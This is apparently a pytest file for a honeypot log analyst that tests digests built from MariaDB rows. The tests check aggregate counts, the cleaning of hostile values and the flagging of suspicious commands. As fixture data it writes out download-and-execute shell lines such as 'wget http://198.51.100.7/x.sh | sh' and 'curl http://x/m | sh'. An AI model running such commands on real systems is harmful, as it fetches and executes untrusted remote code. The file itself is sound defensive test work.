"""Digests built from the real MariaDB: right aggregates, hostile text cleaned, size bounded.

Each test runs twice: the digest read from the window's rows, and from its tallies.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta

import pytest
from sqlalchemy import Engine

from rbr_analyst.store import AnalystStore
from rbr_analyst.window_digest import Digest, DigestBuilder
from rbr_analyst.windows import Window
from rbr_testing.logrows import Variety, generate_window, insert_rows, log_row

from .conftest import INTERVAL, WINDOW_START
from .test_window_tallies import fold_everything

BUCKET = "rustbucket-a"
WINDOW = Window.starting(BUCKET, WINDOW_START, INTERVAL)


def at(minutes: float) -> object:
    return WINDOW_START + timedelta(minutes=minutes)


DigestOf = Callable[..., Digest]


@pytest.fixture(params=["rows", "tallies"])
def digest_of(request: pytest.FixtureRequest, mysql_engine: Engine) -> DigestOf:
    """Builds a window's digest from its rows, or from its tallies (folding every object)."""

    def build(window: Window = WINDOW, **options: int) -> Digest:
        if request.param == "tallies":
            fold_everything(AnalystStore(mysql_engine))
        digest = DigestBuilder(mysql_engine, **options).build(window, "192.0.2.10")
        assert digest.read_from == request.param
        return digest

    return build


def test_digest_aggregates_the_window_only(mysql_engine: Engine, digest_of: DigestOf) -> None:
    earlier = WINDOW_START - timedelta(hours=1)
    rows = [
        # An earlier window saw 198.51.100.1 already; another bucket's rows must not count.
        log_row(BUCKET, earlier, "login_failed", source_ip="198.51.100.1"),
        log_row("rustbucket-b", at(5), "login_failed", source_ip="203.0.113.99"),
        *[
            log_row(
                BUCKET,
                at(i),
                "login_failed",
                source_ip="198.51.100.1",
                username="root",
                password=f"pw{i % 3}",
            )
            for i in range(6)
        ],
        log_row(
            BUCKET,
            at(10),
            "login_success",
            source_ip="198.51.100.2",
            username="admin",
            password="admin",
        ),
        log_row(
            BUCKET,
            at(11),
            "command",
            source_ip="198.51.100.2",
            command="uname -a",
            session="s1",
        ),
        log_row(
            BUCKET,
            at(12),
            "command",
            source_ip="198.51.100.2",
            command="wget http://198.51.100.7/x.sh | sh",
            session="s1",
        ),
        log_row(
            BUCKET,
            at(13),
            "download",
            source_ip="198.51.100.2",
            url="http://198.51.100.7/x.sh",
            file_sha256="cd" * 32,
            session="s1",
        ),
        log_row(BUCKET, at(14), "http_request", source_ip="198.51.100.3", url="/phpmyadmin/"),
        log_row(BUCKET, at(15), "unparsed", raw="garbage line"),
        # Exactly at the end: belongs to the next window.
        log_row(BUCKET, WINDOW.end, "login_failed", source_ip="198.51.100.50"),
    ]
    insert_rows(mysql_engine, rows)

    digest = digest_of(top_n=5)

    assert digest.total_rows == 12
    assert digest.login_failures == 6
    assert digest.login_successes == 1
    assert digest.command_count == 2
    assert digest.download_count == 1
    assert digest.unparsed == 1
    assert digest.distinct_source_ips == 3
    assert digest.source_ips.items[0] == {"value": "198.51.100.1", "count": 6}
    assert {i["value"] for i in digest.new_source_ips.items} == {"198.51.100.2", "198.51.100.3"}
    assert digest.new_source_ips.distinct == 2
    assert digest.usernames.items[0] == {"value": "root", "count": 6}
    assert digest.passwords.distinct == 4
    assert digest.successful_logins.items == [
        {"source_ip": "198.51.100.2", "username": "admin", "password": "admin", "count": 1}
    ]
    assert digest.downloads.items == [
        {"url": "http://198.51.100.7/x.sh", "sha256": "cd" * 32, "count": 1}
    ]
    assert digest.http_paths.items == [{"value": "/phpmyadmin/", "count": 1}]
    assert sorted((f.command, f.rule.key) for f in digest.flagged_commands) == [
        ("uname -a", "reconnaissance"),
        ("wget http://198.51.100.7/x.sh | sh", "download_and_execute"),
    ]
    sampled = [s["event_type"] for s in digest.samples]
    assert sampled[:2] == ["download", "login_success"]
    assert "unparsed" in sampled


def test_top_lists_say_how_many_more(mysql_engine: Engine, digest_of: DigestOf) -> None:
    insert_rows(
        mysql_engine,
        [
            log_row(
                BUCKET,
                at(i % 200),
                "login_failed",
                source_ip=f"10.0.{i // 250}.{i % 250}",
                username=f"user{i}",
            )
            for i in range(300)
        ],
    )
    digest = digest_of(top_n=10)
    assert len(digest.usernames.items) == 10
    assert digest.usernames.as_json()["and_more"] == 290
    assert digest.source_ips.distinct == 300


def test_hostile_values_are_cleaned_in_the_digest(
    mysql_engine: Engine, digest_of: DigestOf
) -> None:
    command = "echo AKIAIOSFODNN7EXAMPLE\x1b[31m > k; " + "A" * 2000
    insert_rows(
        mysql_engine,
        [log_row(BUCKET, at(1), "command", command=command, raw=command)],
    )
    digest = digest_of()
    rendered = digest.render()
    assert "AKIAIOSFODNN7EXAMPLE" not in rendered
    assert "\x1b" not in rendered
    assert len(digest.commands.items[0]["value"]) <= 300
    assert len(digest.samples[0]["record"]) <= 400


def test_one_bad_command_among_many_is_flagged(mysql_engine: Engine, digest_of: DigestOf) -> None:
    """The rules see every distinct command, not only the top N."""
    rows = [
        log_row(BUCKET, at(i % 200), "command", command=f"echo {i}")
        for i in range(400)
        for _ in range(2)
    ]
    rows.append(log_row(BUCKET, at(3), "command", command="curl http://x/m | sh"))
    insert_rows(mysql_engine, rows)
    digest = digest_of(top_n=5)
    assert all(item["count"] == 2 for item in digest.commands.items)
    assert [f.command for f in digest.flagged_commands] == ["curl http://x/m | sh"]


def test_digest_size_grows_with_distinct_values_not_rows(
    mysql_engine: Engine, digest_of: DigestOf
) -> None:
    """Ten times the rows with the same variety: the same size, far under the 30k-token cap.

    (The 1M-row case is in `python -m bench analyst`.)
    """
    variety = Variety(source_ips=3_000, usernames=400, passwords=1_500, commands=600, urls=300)
    small_window = Window.starting("rustbucket-small", WINDOW_START, INTERVAL)
    large_window = Window.starting("rustbucket-large", WINDOW_START, INTERVAL)
    generate_window(mysql_engine, small_window.bucket, WINDOW_START, 10_000, variety)
    generate_window(mysql_engine, large_window.bucket, WINDOW_START, 100_000, variety)
    small = digest_of(small_window)
    large = digest_of(large_window)

    assert (small.total_rows, large.total_rows) == (10_000, 100_000)
    assert large.estimated_tokens() < 30_000
    assert abs(large.estimated_tokens() - small.estimated_tokens()) < 0.1 * small.estimated_tokens()
